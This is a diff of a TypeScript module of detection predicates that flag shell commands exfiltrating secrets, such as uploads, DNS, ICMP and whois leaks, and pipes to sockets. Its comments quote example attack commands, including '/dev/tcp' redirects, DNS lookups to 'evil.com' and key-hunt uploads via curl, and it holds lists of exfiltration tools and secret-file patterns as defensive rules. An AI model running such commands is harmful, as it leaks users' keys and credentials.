@@ -1,8 +1,10 @@
 /** Named predicates for the exfiltration rules (rules/builtin/exfiltration.json). */
 import { own } from '../../own.js';
-import picomatch from 'picomatch';
+import { globMatcher } from '../glob.js';
 import type { Subject } from '../subject.js';
-import { isSecretPath, isSecretRead, textNamesSecret } from './exfiltration-secrets.js';
+import { textNamesSecret } from './exfiltration-secrets.js';
+import { HOME_DIR, serveExfiltrationPredicates } from './exfiltration-serve.js';
+import { forPrograms, type Predicate } from './programs.js';
 import type { Operation } from '../../ops/types.js';
 import type { Span } from '../../syntax/ast.js';
 
@@ -21,6 +23,9 @@ function isRawSocket(s: Subject): boolean {
   if (p === 'openssl') return s.parsed.subcommands[0] === 's_client';
   return p !== null && RAW_SOCKETS.has(p);
 }
+
+/** Every program sendsStdin can hold for. */
+const STDIN_SENDERS = [...HTTP_CLIENTS, ...MAILERS, ...RAW_SOCKETS, 'openssl', 'ssh', 'aws', 'gsutil', 's3cmd', 'rclone'];
 
 /** Commands whose stdin goes to another machine. */
 function sendsStdin(s: Subject): boolean {
@@ -74,6 +79,9 @@ function hasRemoteTarget(s: Subject): boolean {
 /** Programs that copy their operand files to another machine. */
 const REMOTE_COPIERS = new Set(['scp', 'rsync', 'sftp', 'rclone', 'gsutil', 's3cmd', 'lp', 'lpr', 'smbclient', 'restic', 'duplicity']);
 
+/** Programs that send the secret files named as their operands (besides REMOTE_COPIERS). */
+const OPERAND_SENDERS = new Set(['aws', 'gcloud', 'az', 'gh', 'glab', 'tar', 'bsdtar', 'gtar']);
+
 /** Output goes to a bash network redirect: `> /dev/tcp/HOST/PORT`. */
 function writesToSocket(s: Subject): boolean {
   return s.cmd.redirects.some((r) => r.path !== null && /^\/dev\/(tcp|udp)\//.test(r.path.value) && !r.op.startsWith('<'));
@@ -88,7 +96,7 @@ function writesToSocket(s: Subject): boolean {
 function uploadsSecret(s: Subject): boolean {
   const p = s.cmd.program;
   if (p === null) return false;
-  const secretOps = s.ops.filter(isSecretRead);
+  const secretOps = s.secretReads;
   // `cat ~/.ssh/id_rsa > /dev/tcp/h/p`
   if (secretOps.length > 0 && writesToSocket(s)) return true;
   // stdin from a secret file, to anything that sends its stdin
@@ -109,12 +117,17 @@ function uploadsSecret(s: Subject): boolean {
       s.cmd.args.some((a) => /^(tcp|udp|ssl|openssl|sctp)[0-9-]*[a-z-]*:/i.test(a.value))
     );
   }
+  // Every case below sends secret operands: other programs stop here, before any parsing.
+  if (!REMOTE_COPIERS.has(p) && !OPERAND_SENDERS.has(p)) return false;
   // A project's .env copied to a server or bucket is how apps get deployed; to a gist, a form
   // upload or a raw socket it is a leak (handled above and below).
   const deployable = (o: Operation) => /\/\.env(\.[^/]*)?$/.test(o.path ?? '') && !(o.classes ?? []).includes('outside');
   const operandSecret = secretOps.some((o) => o.source === 'operand' && !(deployable(o) && p !== 'gh' && p !== 'glab'));
-  const operandText = s.parsed.operands.some((a) => textNamesSecret(' ' + a.value));
-  if (REMOTE_COPIERS.has(p)) return (operandSecret || ((p === 'lp' || p === 'lpr') && operandText)) && (hasRemoteTarget(s) || p === 'lp' || p === 'lpr' || p === 'smbclient');
+  if (REMOTE_COPIERS.has(p)) {
+    const printer = p === 'lp' || p === 'lpr';
+    const operandText = () => s.parsed.operands.some((a) => textNamesSecret(' ' + a.value));
+    return (operandSecret || (printer && operandText())) && (printer || p === 'smbclient' || hasRemoteTarget(s));
+  }
   if (p === 'aws') return s.parsed.subcommands[0] === 's3' && operandSecret && hasRemoteTarget(s);
   if (p === 'gcloud' || p === 'az') return operandSecret && hasRemoteTarget(s);
   if (p === 'gh' || p === 'glab') {
@@ -127,10 +140,12 @@ function uploadsSecret(s: Subject): boolean {
   return false;
 }
 
+const FILE_TRANSFER = ['sftp', 'ftp', 'lftp', 'smbclient', 'tftp', 'ncftp', 'ncftpput'];
+
 /** sftp/ftp/lftp/smbclient told to `put` a secret file (batch text on stdin or in -c). */
 function putsSecret(s: Subject): boolean {
   const p = s.cmd.program;
-  if (p === null || !['sftp', 'ftp', 'lftp', 'smbclient', 'tftp', 'ncftp', 'ncftpput'].includes(p)) return false;
+  if (p === null || !FILE_TRANSFER.includes(p)) return false;
   const texts = [...s.cmd.redirects.map((r) => r.input ?? ''), ...s.cmd.args.map((a) => a.value)];
   return texts.some((t) => /\b(put|mput|send|append)\s+\S/.test(t) && textNamesSecret(' ' + t.replace(/^[\s\S]*?\b(put|mput|send|append)\s+/, ' ')));
 }
@@ -144,7 +159,7 @@ const CREDENTIAL_PATTERN = /AKIA|ASIA|PRIVATE KEY|aws_secret|password\s*=|passwd
 
 function isSecretSource(o: Subject, withDatabases: boolean): boolean {
   const p = o.cmd.program;
-  if (o.ops.some(isSecretRead)) return true;
+  if (o.secretReads.length > 0) return true;
   if (p === null) return false;
   const args = o.cmd.args.map((a) => a.value);
   // `env`, `printenv`, `set`, `export -p`, `declare -x` print the whole environment
@@ -185,7 +200,7 @@ function pipesSecret(s: Subject): boolean {
   const ownHost = p === 'ssh' || MAILERS.has(p);
   return s.pipelineNeighbours('before').some(
     // `cat .env | ssh host 'cat > /srv/app/.env'` deploys a project's env file
-    (o) => isSecretSource(o, !ownHost) && !(ownHost && o.ops.filter(isSecretRead).every((x) => /\/\.env(\.[^/]*)?$/.test(x.path ?? '')) && o.ops.some(isSecretRead)),
+    (o) => isSecretSource(o, !ownHost) && !(ownHost && o.secretReads.every((x) => /\/\.env(\.[^/]*)?$/.test(x.path ?? '')) && o.secretReads.length > 0),
   );
 }
 
@@ -200,8 +215,10 @@ const AUTH_ARG = /^\s*(Proxy-)?Authorization\s*:|^\s*(X-Api-Key|Private-Token|X-
 function secretSubstituted(s: Subject): boolean {
   const p = s.cmd.program;
   if (p === null || !(HTTP_CLIENTS.has(p) || isRawSocket(s) || p === 'whois' || MAILERS.has(p) || writesToSocket(s))) return false;
+  const feeders = s.feeders();
+  if (feeders.length === 0) return false;
   const userValues = new Set(s.parsed.options.filter((o) => ['-u', '--user', '--oauth2-bearer', '--http-password', '--password'].includes(o.name)).map((o) => o.value));
-  return s.feeders().some((f) => {
+  return feeders.some((f) => {
     if (!isSecretSource(f, false)) return false;
     const arg = s.cmd.args.find((a) => within(f.cmd.span, a.span));
     if (!arg) return true;
@@ -216,6 +233,8 @@ const ENCODERS = new Set(['base64', 'base32', 'basenc', 'xxd', 'od', 'hexdump', 
 /** Commands whose output is a normal DNS label (this host's name, a date, a fresh id). */
 const BENIGN_LABELS = new Set(['hostname', 'date', 'uuidgen', 'seq', 'shuf', 'printf', 'echo', 'jq', 'cut', 'tr', 'sed', 'awk', 'hostnamectl']);
 
+const DNS_TOOLS = ['dig', 'nslookup', 'host', 'drill', 'delv', 'kdig', 'resolvectl', 'getent'];
+
 /**
  * DNS exfiltration: a lookup of `<data>.<domain>` where the data is a command substitution
  * (`nslookup $(whoami).x.com`, `dig $(cat /etc/passwd | base64).evil.com`) or a loop variable
@@ -223,7 +242,7 @@ const BENIGN_LABELS = new Set(['hostname', 'date', 'uuidgen', 'seq', 'shuf', 'pr
  */
 function dnsExfil(s: Subject): boolean {
   const p = s.cmd.program;
-  if (p === null || !['dig', 'nslookup', 'host', 'drill', 'delv', 'kdig', 'resolvectl', 'getent'].includes(p)) return false;
+  if (p === null || !DNS_TOOLS.includes(p)) return false;
   return s.cmd.args.some((a) => {
     if (!a.dynamic) return false;
     const m = /^(\$\(…\)|`…`|\$\{?[A-Za-z_][A-Za-z0-9_]*\}?)\S*\.[A-Za-z0-9-]+\.?$/.exec(a.value);
@@ -262,13 +281,15 @@ function whoisExfil(s: Subject): boolean {
 /** Names of files worth stealing, as a find/locate/grep looks for them. */
 const KEY_NAMES = /id_(rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx\b|credentials|\.env\b|wallet\.dat|\.ovpn\b|private/i;
 
+const KEY_SENDERS = [...HTTP_CLIENTS, ...REMOTE_COPIERS, 'aws'];
+
 /**
  * A file collected from a key hunt is uploaded: `find / -name id_rsa | xargs tar czf /tmp/k.tgz
  * && curl -F f=@/tmp/k.tgz …`. The archive's name says nothing; where its content came from does.
  */
 function uploadsCollectedKeys(s: Subject): boolean {
   const p = s.cmd.program;
-  if (p === null || !(HTTP_CLIENTS.has(p) || REMOTE_COPIERS.has(p) || p === 'aws')) return false;
+  if (p === null || !KEY_SENDERS.includes(p)) return false;
   const sent = new Set(s.ops.filter((o) => o.kind === 'Read' && o.path !== undefined).map((o) => o.path!));
   if (sent.size === 0) return false;
   return s.all.some(
@@ -281,90 +302,9 @@ function uploadsCollectedKeys(s: Subject): boolean {
   );
 }
 
-/** `tailscale serve|funnel` of a secret file, the root or a home directory. */
-function tailscaleServesSecret(s: Subject): boolean {
-  if (s.cmd.program !== 'tailscale') return false;
-  const args = s.cmd.args.map((a) => a.value);
-  if (args[0] !== 'serve' && args[0] !== 'funnel') return false;
-  return args.slice(1).some((a) => !a.startsWith('-') && (textNamesSecret(' ' + a) || exposesDir(a)));
-}
-
-// ---------------------------------------------------------------------------------------------
-// Serving a directory
-
-const HOME_DIR = /^\/(home|Users)\/[^/]+\/?$|^\/root\/?$/;
-const EXPOSED_DIR = /^\/$|^\/(home|Users|etc|root|var|usr|proc|boot|srv|opt)\/?$/;
-
-function exposesDir(dir: string | null | undefined): boolean {
-  if (!dir) return false;
-  const d = dir.replace(/\/+$/, '') || '/';
-  return HOME_DIR.test(d) || EXPOSED_DIR.test(d) || isSecretPath(d) || /\/\.(ssh|aws|gnupg|kube|config)$/.test(d);
-}
-
-function optionValue(s: Subject, names: string[]): string | null {
-  const o = s.parsed.options.find((x) => names.includes(x.name) && x.value !== null);
-  if (o) return o.value!.value;
-  // no spec for the program: look for `--name value` / `--name=value` in the words
-  const args = s.cmd.args.map((a) => a.value);
-  for (let i = 0; i < args.length; i++) {
-    for (const n of names) {
-      if (args[i] === n && i + 1 < args.length) return args[i + 1];
-      if (args[i].startsWith(n + '=')) return args[i].slice(n.length + 1);
-    }
-  }
-  return null;
-}
-
-/**
- * A web server whose document root is `/`, a home directory, a system directory or a secret
- * directory: `python3 -m http.server --directory /`, `cd ~ && python -m http.server`,
- * `php -S 0.0.0.0:80 -t /`, `busybox httpd -h /`, `ruby -run -e httpd /`. Anyone who can reach
- * the port reads ~/.ssh, ~/.aws and every .env.
- */
-function servesSensitiveDir(s: Subject): boolean {
-  const p = s.cmd.program;
-  if (p === null) return false;
-  const args = s.cmd.args.map((a) => a.value);
-  if (/^python[0-9.]*$|^pypy3?$/.test(p)) {
-    const mi = args.indexOf('-m');
-    const mod = mi >= 0 ? args[mi + 1] : args.find((a) => a.startsWith('-m') && a.length > 2)?.slice(2);
-    if (mod !== 'http.server' && mod !== 'SimpleHTTPServer' && mod !== 'uploadserver' && mod !== 'updog') return false;
-    return exposesDir(optionValue(s, ['--directory', '-d']) ?? s.cmd.cwd);
-  }
-  if (/^php[0-9.]*$/.test(p)) {
-    if (!args.some((a) => a === '-S' || a.startsWith('-S'))) return false;
-    return exposesDir(optionValue(s, ['-t']) ?? s.cmd.cwd);
-  }
-  if (p === 'httpd' && s.ancestors().some((a) => a.cmd.program === 'busybox')) return exposesDir(optionValue(s, ['-h']) ?? s.cmd.cwd);
-  if (p === 'busybox' && args[0] === 'httpd') return exposesDir(optionValue(s, ['-h']) ?? s.cmd.cwd);
-  if (/^ruby[0-9.]*$/.test(p) && args.some((a) => a === '-run' || a === '-run,httpd') && args.includes('httpd')) {
-    const dir = args.filter((a) => !a.startsWith('-') && a !== 'httpd').pop();
-    return exposesDir(dir ?? s.cmd.cwd);
-  }
-  if (p === 'http-server' || p === 'serve' || p === 'live-server' || p === 'webfsd' || p === 'updog' || p === 'miniserve') {
-    const dir = optionValue(s, ['-d', '--directory', '-r', '--root']) ?? s.parsed.operands.map((a) => a.value).find((a) => a.startsWith('/') || a === '~');
-    return exposesDir(dir ?? s.cmd.cwd);
-  }
-  if ((p === 'npx' || p === 'bunx' || p === 'pnpx') && ['http-server', 'serve', 'live-server'].includes(args[0] ?? '')) {
-    const dir = args.slice(1).find((a) => a.startsWith('/'));
-    return exposesDir(dir ?? s.cmd.cwd);
-  }
-  if (p === 'caddy' && args[0] === 'file-server') return exposesDir(optionValue(s, ['--root', '-r']) ?? s.cmd.cwd);
-  if (p === 'twistd' && args.includes('web')) return exposesDir(optionValue(s, ['--path']));
-  return false;
-}
-
-/** `kubectl proxy --address=0.0.0.0 --accept-hosts='.*'`: the cluster API, unauthenticated, on every interface. */
-function openKubeProxy(s: Subject): boolean {
-  if (s.cmd.program !== 'kubectl' && s.cmd.program !== 'oc') return false;
-  if (!s.cmd.args.some((a) => a.value === 'proxy')) return false;
-  const addr = optionValue(s, ['--address']);
-  return addr !== null && !/^(127\.|localhost$|::1$)/.test(addr);
-}
-
 /** Reads a secret file (for `git add`, `cp` sources). */
 function readsSecret(s: Subject): boolean {
-  return s.ops.some(isSecretRead);
+  return s.secretReads.length > 0;
 }
 
 /**
@@ -382,26 +322,26 @@ function readsHomeOrRoot(s: Subject): boolean {
   });
 }
 
-const WEB_ROOT = picomatch(['/var/www/**', '/srv/www/**', '/srv/http/**', '/usr/share/nginx/html/**', '/var/lib/nginx/html/**', '**/public_html/**', '/Library/WebServer/**'], { dot: true });
+const WEB_ROOT = globMatcher(['/var/www/**', '/srv/www/**', '/srv/http/**', '/usr/share/nginx/html/**', '/var/lib/nginx/html/**', '**/public_html/**', '/Library/WebServer/**']);
 
 /** Copies a secret into a directory a web server publishes. */
 function secretToWebRoot(s: Subject): boolean {
-  return s.ops.some((o) => o.kind === 'Write' && o.path !== undefined && WEB_ROOT(o.path)) && s.ops.some(isSecretRead);
+  return s.ops.some((o) => o.kind === 'Write' && o.path !== undefined && WEB_ROOT(o.path)) && s.secretReads.length > 0;
 }
 
-export const exfiltrationPredicates: Record<string, (s: Subject) => boolean> = {
+export const exfiltrationPredicates: Record<string, Predicate> = {
+  // Not declared: a secret written to `> /dev/tcp/…` counts whatever the program.
   'exfiltration/uploads-secret': uploadsSecret,
-  'exfiltration/puts-secret': putsSecret,
-  'exfiltration/pipes-secret': pipesSecret,
+  'exfiltration/puts-secret': forPrograms(FILE_TRANSFER, putsSecret),
+  'exfiltration/pipes-secret': forPrograms(STDIN_SENDERS, pipesSecret),
+  // Not declared: any program whose output goes to `> /dev/tcp/…` counts.
   'exfiltration/secret-substituted': secretSubstituted,
-  'exfiltration/dns-exfil': dnsExfil,
-  'exfiltration/icmp-exfil': icmpExfil,
-  'exfiltration/serves-sensitive-dir': servesSensitiveDir,
-  'exfiltration/open-kube-proxy': openKubeProxy,
+  'exfiltration/dns-exfil': forPrograms(DNS_TOOLS, dnsExfil),
+  'exfiltration/icmp-exfil': forPrograms(['ping', 'ping6', 'hping3', 'hping', 'hping2', 'nping'], icmpExfil),
   'exfiltration/reads-secret': readsSecret,
-  'exfiltration/whois-exfil': whoisExfil,
+  'exfiltration/whois-exfil': forPrograms(['whois'], whoisExfil),
   'exfiltration/reads-home-or-root': readsHomeOrRoot,
-  'exfiltration/uploads-collected-keys': uploadsCollectedKeys,
-  'exfiltration/tailscale-serves-secret': tailscaleServesSecret,
+  'exfiltration/uploads-collected-keys': forPrograms(KEY_SENDERS, uploadsCollectedKeys),
   'exfiltration/secret-to-web-root': secretToWebRoot,
+  ...serveExfiltrationPredicates,
 };
